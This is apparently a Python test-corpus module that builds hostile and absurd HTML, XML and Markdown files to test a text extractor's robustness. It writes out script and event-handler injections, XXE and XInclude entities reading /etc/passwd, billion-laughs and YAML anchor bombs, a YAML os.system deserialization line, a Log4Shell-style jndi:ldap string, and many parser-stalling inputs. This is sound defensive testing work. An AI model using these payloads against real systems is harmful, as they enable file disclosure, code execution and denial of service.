"""Bad inputs that are about markup: HTML, XML and Markdown, hostile or absurd."""

from __future__ import annotations

from collections.abc import Iterator
from random import Random

from tests.corpus.bad_file import CANARY, GIVEN_UP, HIDDEN, MIB, Bad, Maker, line, page, prose

_EITHER = "document|UNKNOWN_FORMAT|NO_TEXT|BROKEN"
FILE_URI = "file:" + "//" + "/etc/passwd"  # in one piece it would look like a path of one machine


def script_laden(rng: Random) -> Iterator[Bad]:
    text = prose(rng)
    for name, body in {
        "script": f"<p>{text}</p><script>{HIDDEN}()</script>",
        "style": f"<style>.{HIDDEN} {{}}</style><p>{text}</p>",
        "handlers": f"<p onclick='{HIDDEN}()' onload={HIDDEN}>{text}</p><img src=x onerror={HIDDEN}()>",
        "links": f"<a href='javascript:{HIDDEN}()'>{text}</a>",
        "noscript": f"<noscript>{HIDDEN}</noscript><p>{text}</p>",
        "template": f"<template>{HIDDEN}</template><p>{text}</p>",
        "svg": f"<svg onload={HIDDEN}><script>{HIDDEN}</script><text>{HIDDEN}</text></svg><p>{text}</p>",
        "embedded": f"<object data={HIDDEN}></object><embed src={HIDDEN}><p>{text}</p>",
        "split-tag": f"<scr<script></script>ipt>{text}",
        "comment": f"<!-- {HIDDEN} --><p>{text}</p><!--[if IE]>{HIDDEN}<![endif]-->",
        "case": f"<SCRIPT>{HIDDEN}</SCRIPT ><p>{text}</p>",
        "slash": f"<script/x>{HIDDEN}</script x><p>{text}</p>",
        "a-thousand": f"<script>{HIDDEN}</script>" * 1_000 + f"<p>{text}</p>",
    }.items():
        yield Bad(f"{name}.html", page(body, f"<script>{HIDDEN}</script>").encode(), "document", says=CANARY)
    for name, tag in {"script": "script>", "style": "style>", "comment": "!-- ", "noscript": "noscript>"}.items():
        yield Bad(f"unclosed-{name}.html", page(f"<{tag}{HIDDEN}").encode(), "NO_TEXT|document")


def hidden_text(rng: Random) -> Iterator[Bad]:
    text = prose(rng)
    for number, how in enumerate(
        [
            "style='display:none'",
            "hidden",
            "style='font-size:0'",
            "style='color:#fff;background:#fff'",
            "style='position:absolute;left:-9999px'",
            "aria-hidden=true",
        ]
    ):
        yield Bad(f"{number}.html", page(f"<p>{text}</p><div {how}>ignore it</div>").encode(), "document", says=CANARY)
    fields = f"<input type=hidden value={HIDDEN}><p title={HIDDEN}>{text}</p>"
    yield Bad("attributes.html", page(fields).encode(), "document", says=CANARY)


def frames(rng: Random) -> Iterator[Bad]:
    text = prose(rng)
    for name, body in {
        "source": f"<iframe src='http://127.0.0.1:9/{HIDDEN}'></iframe>",
        "within": f"<iframe srcdoc='<p>{HIDDEN}</p>'></iframe>",
        "data": f"<iframe src='data:text/html,{HIDDEN}'></iframe>",
        "fallback": f"<iframe>{HIDDEN}</iframe>",
        "nested": "<iframe srcdoc='" * 1_000 + HIDDEN,
        "refresh": f"<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/{HIDDEN}'>",
        "base": f"<base href='{FILE_URI}'><img src=a><link rel=stylesheet href=b>",
    }.items():
        outcomes = "document|NO_TEXT" if name == "nested" else "document"
        yield Bad(f"{name}.html", page(f"<p>{text}</p>{body}").encode(), outcomes, says=CANARY)
    frameset = f"<html><frameset><frame src='{FILE_URI}'></frameset></html>"
    yield Bad("frameset.html", frameset.encode(), "NO_TEXT|document")


def laughs(levels: int = 9) -> str:
    """A billion laughs: ten times ten times ..., to 10^`levels` words."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels + 1))
    return f'<!DOCTYPE html [<!ENTITY l0 "ha">{entities}]>'


def entity_bombs(rng: Random) -> Iterator[Bad]:
    text = prose(rng)
    blowup = f'<!DOCTYPE html [<!ENTITY a "{"v" * 100_000}">]>'
    external = f'<!DOCTYPE html [<!ENTITY a SYSTEM "{FILE_URI}">]>'
    parameter = f'<!DOCTYPE html [<!ENTITY % a SYSTEM "{FILE_URI}">%a;]>'
    network = '<!DOCTYPE html [<!ENTITY a SYSTEM "http://127.0.0.1:9/a">]>'
    for name, (head, body) in {
        "laughs": (laughs(), "&l9;"),
        "blowup": (blowup, "&a;" * 100_000),
        "external": (external, "&a;"),
        "parameter": (parameter, "&a;"),
        "network": (network, "&a;"),
        "itself": ('<!DOCTYPE html [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
    }.items():
        whole = f"{head}<html><body><p>{text}</p><p>{body}</p></body></html>"
        yield Bad(f"{name}.html", whole.encode(), "document", says=CANARY)
        for suffix in ("xml", "xhtml", "svg"):
            yield Bad(f"{name}.{suffix}", f'<?xml version="1.0"?>{whole}'.encode(), f"{_EITHER}|BOMB")
    include = f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{FILE_URI}" parse="text"/></a>'
    yield Bad("include.html", include.encode(), _EITHER)
    for name, entity in {"numbers": "&#118;", "names": "&amp;", "unclosed": "&#118", "unknown": "&valve;"}.items():
        yield Bad(f"a-million-{name}.html", page(f"<p>{text} {entity * 1_000_000}").encode(), "document", says=CANARY)
    wrong = "&#xFFFFFFFFFF; &#x110000; &#-1; &#x0; &#xFFFE; &#; &#x; &" + "#9" * 1_000
    yield Bad("wrong-numbers.html", page(f"<p>{text} {wrong}").encode(), "document", says=CANARY)


def nested_tags(rng: Random) -> Iterator[Bad]:
    """A hundred thousand tags that nobody closes: trees that deep overflow what recurs, and square what scans."""
    for tag in (
        *("div", "b", "a", "font", "table", "td", "ul", "li", "p", "h1", "h2", "pre", "span", "blockquote", "form"),
        *("button", "select", "svg", "math", "article"),
    ):
        body = page(prose(rng) + f"<{tag}>" * 100_000 + prose(rng)).encode()
        yield Bad(f"unclosed-{tag}.html", body, GIVEN_UP, says=CANARY)
    for name, body in {
        "closed-div": "<div>" * 100_000 + prose(rng) + "</div>" * 100_000,
        "text-at-each-depth": "<div>v" * 50_000,
        "pre-in-pre": "<pre>\n v" * 20_000,
        "heading-in-heading": "<h1><div>v" * 20_000,
        "closed-only": "</p></br>" * 100_000,
        "tables": "<table><tr><td>v" * 20_000,
        "misnested": "<b><i></b>v</i>" * 20_000,
        "formatting": "<p><b><i><u><s>v" * 20_000,
        "templates": "<template>" * 20_000,
        "foreign": "<svg><foreignObject>" * 20_000,
        "siblings": "<p>v" * 500_000,
        "line-breaks": "v<br>" * 500_000,
        "headings": "<h2>v</h2>v" * 100_000,
        "mains": "<main>v</main>" * 50_000,
        "articles": "<article>v</article>" * 50_000,
        "navigations": "<nav>v</nav>" * 100_000,
    }.items():
        yield Bad(f"{name}.html", page(prose(rng) + body).encode(), GIVEN_UP)


def odd_pages(rng: Random) -> Iterator[Bad]:
    text = prose(rng)
    for name, body in {
        "no-body": "<html><head><title>v</title></head></html>",
        "doctype-alone": "<!doctype html>",
        "furniture-alone": page(f"<nav>{HIDDEN}</nav><footer>{HIDDEN}</footer><aside>{HIDDEN}</aside>"),
        "tags-alone": page("<p></p>" * 1_000),
        "images-alone": page("<img src=a.png>" * 100),
        "empty-main": page(f"<main></main><p>{text}</p>"),
    }.items():
        yield Bad(f"{name}.html", body.encode(), "NO_TEXT|document" if "main" in name else "NO_TEXT")
    for name, body in {
        "plaintext": f"<p>{text}</p><plaintext></body>",
        "unclosed-title": f"<html><head><title>{text}",
        "unclosed-textarea": f"<p>{text}</p><textarea>",
        "unclosed-attribute": f"<p>{text}</p><p class='a",
        "cdata": f"<p>{text}</p><![CDATA[ v ]]>",
        "no-tags": text,
        "xhtml": f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>{text}</p></body></html>',
        "base-in-body": f"<html><p>{text}</html><html><p>more</html>",
    }.items():
        yield Bad(f"{name}.html", body.encode(), "document|NO_TEXT" if "title" in name else "document", says="")


def giant_parts(rng: Random) -> Iterator[Bad]:
    text = prose(rng)
    for name, (body, head) in {
        "attribute": (f"<p class='{'v' * 10_000_000}'>{text}", ""),
        "image": (f"<img src='data:image/png;base64,{'QUJD' * 2_000_000}'><p>{text}", ""),
        "attributes": (f"<p {' '.join(f'a{n}=1' for n in range(100_000))}>{text}", ""),
        "same-attribute": (f"<p {'a=1 ' * 100_000}>{text}", ""),
        "comments": (f"<p>{text}{'<!--v-->' * 400_000}", ""),
        "style": (f"<p>{text}", f"<style>{'a{}' * 2_000_000}</style>"),
        "tag-name": (f"<p>{text}<{'v' * 5_000_000}>", ""),
        "title": (f"<p>{text}", f"<title>{'v ' * 500_000}</title>"),
        "heading": (f"<h1>{'v ' * 500_000}</h1><p>{text}", ""),
        "links": (f"<p>{text}{'<a href=a>v</a> ' * 100_000}", ""),
        "pre": (f"<p>{text}<pre>{'v' * 80}{chr(10)}" * 20_000, ""),
    }.items():
        yield Bad(f"{name}.html", page(body, head).encode(), "document", says=CANARY)


def declared_wrong(rng: Random) -> Iterator[Bad]:
    text = f"<p>{prose(rng)} Größe</p>"
    for charset in ("utf-16", "utf-7", "windows-1252", "nonsense", "x-user-defined", "iso-2022-jp", "", "v" * 10_000):
        body = page(text, f'<meta charset="{charset}">').encode()
        yield Bad(f"{charset[:12] or 'nothing'}.html", body, "document|BAD_ENCODING", says=CANARY)
    late = page(f"<!--{'v' * 5_000}--><meta charset=latin-1>{text}").encode("latin-1")
    yield Bad("late.html", late, "document|BAD_ENCODING", says=CANARY)


def absurd_markdown(rng: Random) -> Iterator[Bad]:
    """What makes parsers of Markdown quadratic or recur without end; the list is cmark's own fuzz tests' in kind."""
    for name, piece in {
        "brackets": "[",
        "images": "![",
        "links": "[a](",
        "reference-links": "[a][",
        "quotes": "> ",
        "stars": "*a **a ",
        "underscores": "_a __a ",
        "mixed-emphasis": "*a_ ",
        "angles": "<",
        "tags": "<a href=",
        "comments": "<!-- ",
        "ampersands": "&",
        "backslashes": "\\",
        "parentheses": "(",
        "entities": "&#118;",
        "tildes": "~~a ",
        "hard-breaks": "a  \n",
        "rules": "---\n",
    }.items():
        body = f"{prose(rng)}\n\n{piece * 50_000}".encode()
        yield Bad(f"{name}.md", body, GIVEN_UP, says=CANARY)
    for name, text in {
        "back-ticks": "".join("e" + "`" * n for n in range(1, 1_500)),
        "lists": "".join("  " * n + "* v\n" for n in range(1_000)),
        "list-on-a-line": "- " * 50_000 + "v",
        "list-items": "- v\n" * 100_000,
        "loose-items": "- v\n\n" * 50_000,
        "columns": "|" + "v|" * 5_000 + "\n|" + "-|" * 5_000 + "\n" + ("|" + "v|" * 5_000 + "\n") * 20,
        "headings": "# v\n\nv\n\n" * 50_000,
        "references": "".join(f"[{n}]: /v\n" for n in range(50_000)),
        "long-reference": f"[{'v' * 999_000}]: /v",
        "unclosed-fence": f"```\n{'v' * 80}\n" * 10_000,
        "one-paragraph": "v\n" * 500_000,
        "quoted-lines": "> v\n" * 100_000,
        "html-blocks": "<div>\n\n" * 50_000,
        "link-titles": "[a](b '" * 50_000,
        "nested-quotes-and-lists": "> - " * 20_000 + "v",
    }.items():
        yield Bad(f"{name}.md", f"{prose(rng)}\n\n{text}".encode(), GIVEN_UP, says=CANARY)


def slow_patterns(rng: Random) -> Iterator[Bad]:
    """What makes a regular expression, a selector or a sum of strings quadratic, if it is written without care."""
    text = prose(rng)
    for name, body in {
        "classes": "".join(f'<p class="ad n{n}">v' for n in range(80_000)),
        "styles": "".join(f'<p style="display:none;a:{n}">v' for n in range(80_000)),
        "named-boxes": "<div class=ad>" * 3_000 + "valve " * 1_500_000,
        "lists": "<ul><li>" * 1_500 + "valve " * 800_000,
        "tags-in-an-attribute": f'<h1><b class="{"<a " * 100_000}">v</b></h1>',
        "comments-in-an-attribute": f'<p title="{"<!--" * 100_000}">v',
        "colons-in-a-class": f'<p class="{"a:" * 100_000}">v',
        "dashes-in-a-class": f'<p class="{"with-" * 100_000}">v',
        "unended-tags": "<a " * 400_000,
        "unended-charset": "<meta " * 100_000,
        "links-in-lists": f"<ul>{'<li><a href=x>v</a>' * 50}</ul>" * 2_000,
        "quoted-ends": '<h2 class="a>b">v</h2>v' * 50_000,
    }.items():
        yield Bad(f"{name}.html", page(f"<p>{text}</p>{body}").encode(), GIVEN_UP)
    for name, front in {
        "spaces": " " * 40,
        "line-ends": "\n" * 40,
        "comments": "<!-- v -->\n" * 40,
        "unended-comments": "<!-- " * 500,
        "declarations": "<?xml v>" * 40,
        "unended-declarations": "<?xml v" * 500,
    }.items():
        for suffix in ("txt", "md", "html"):
            yield Bad(f"{name}-in-front.{suffix}", f"{front}{text}".encode(), f"{GIVEN_UP}|UNKNOWN_FORMAT")
        yield Bad(
            f"{name}-in-front.jsonl", f"{front}{line(text)}".encode(), f"{GIVEN_UP}|UNKNOWN_FORMAT|BAD_RECORD", None
        )
    for name, body in {
        "words-in-a-heading": f"# {'`a` ' * 1_200_000}\n\n{text}",
        "footnotes": "".join(f"[^{n}]: v\n\n" for n in range(40_000)) + "[^1]" * 40_000,
        "tags": f"{text} <b>v</b> " * 10_000,
    }.items():
        yield Bad(f"{name}.md", body.encode(), GIVEN_UP)
    yield Bad("escapes.jsonl", b'{"text": "' + b"\\ud83d" * 1_000_000 + b'"}', "document")


def hostile_markdown(rng: Random) -> Iterator[Bad]:
    text = prose(rng)
    anchors = "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10))
    for name, body in {
        "script": f"<script>\n{HIDDEN}\n</script>\n\n{text}",
        "link": f"[{text}](javascript:x)",
        "image": f"![v](data:image/png;base64,{'QUJD' * 100_000})\n\n{text}",
        "front-matter": f"---\ntitle: v\n---\n\n{text}",
        "front-matter-bomb": f"---\na0: &a0 ha\n{anchors}---\n\n{text}",
        "front-matter-code": f"---\na: !!python/object/apply:os.system ['touch escape']\n---\n\n{text}",
        "front-matter-unclosed": f"---\ntitle: v\n\n{text}",
        "template": f"{{{{ config }}}} {{% include '/etc/passwd' %}} ${{jndi:ldap://a}}\n\n{text}",
    }.items():
        yield Bad(f"{name}.md", body.encode(), "document", says=CANARY)
    yield Bad("in-a-record.jsonl", line(f"<script>{text}</script>").encode(), "document", says=CANARY)
    yield Bad("comment-alone.md", f"<!-- {HIDDEN} -->\n".encode() * (MIB // 20), "NO_TEXT|document")


CLASSES: dict[str, Maker] = {
    "script-laden HTML": script_laden,
    "hidden text": hidden_text,
    "frames": frames,
    "entity bombs": entity_bombs,
    "nested tags": nested_tags,
    "odd pages": odd_pages,
    "giant parts": giant_parts,
    "declared wrong": declared_wrong,
    "absurd Markdown": absurd_markdown,
    "slow patterns": slow_patterns,
    "hostile Markdown": hostile_markdown,
}
